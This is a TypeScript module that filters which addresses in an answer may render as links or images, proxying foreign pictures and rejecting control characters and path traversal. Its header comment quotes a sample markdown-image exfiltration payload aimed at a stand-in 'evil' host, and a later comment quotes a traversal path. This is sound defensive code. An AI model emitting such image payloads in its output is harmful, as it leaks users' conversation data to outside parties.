// Which addresses in an answer may become a link or a picture. An answer is foreign text: it must not run
// script, nor make the browser tell a stranger what was said (`![](https://evil/?q=secret)`).

export interface LinkTarget {
  readonly href: string
  /** Leads out of this site: opens in a tab of its own, without telling where from. */
  readonly foreign: boolean
}

/** Null for everything but http, https, mailto, paths of our own and anchors. */
export function linkTarget(address: string): LinkTarget | null {
  const href = address.trim().replaceAll(' ', '%20')
  if (hasControl(href)) return null
  if (/^https?:\/\//i.test(href)) return URL.canParse(href) ? { href, foreign: true } : null
  if (/^mailto:[^\s]/i.test(href)) return { href, foreign: false }
  return /^(?:\/(?![/\\])|#)/.test(href) ? { href, foreign: false } : null
}

export type InputSource =
  | { readonly kind: 'own'; readonly src: string }
  | { readonly kind: 'foreign'; readonly src: string; readonly host: string }

const OWN_FILE = '/api/upload/file'
const NOWHERE = 'https://own.invalid'

/** Null for what is not shown at all. `own.src` is safe to load at once; `foreign.src` goes through our proxy, on demand. */
export function pictureSource(address: string): InputSource | null {
  const text = address.trim()
  if (/^data:image\/(?:png|jpeg|webp|gif);base64,[A-Za-z0-9+/=]+$/.test(text)) {
    return { kind: 'own', src: text }
  }
  if (hasControl(text)) return null
  if (text.startsWith('/')) return ownFile(text)
  if (!/^https?:\/\//i.test(text) || !URL.canParse(text)) return null
  const url = new URL(text)
  const here = typeof location === 'undefined' ? undefined : location.origin
  if (url.origin === here && url.pathname === OWN_FILE) {
    return { kind: 'own', src: url.pathname + url.search }
  }
  return {
    kind: 'foreign',
    host: url.host,
    src: `/api/picture?url=${encodeURIComponent(url.href)}`,
  }
}

/** The path is compared after the browser's own reading of it: `/api/upload/file/../../picture` is another place. */
function ownFile(path: string): InputSource | null {
  if (!URL.canParse(path, NOWHERE)) return null
  const url = new URL(path, NOWHERE)
  if (url.origin !== NOWHERE || url.pathname !== OWN_FILE) return null
  return { kind: 'own', src: url.pathname + url.search }
}

function hasControl(text: string): boolean {
  for (let index = 0; index < text.length; index += 1) {
    const code = text.charCodeAt(index)
    if (code < 0x20 || code === 0x7f) return true
  }
  return false
}
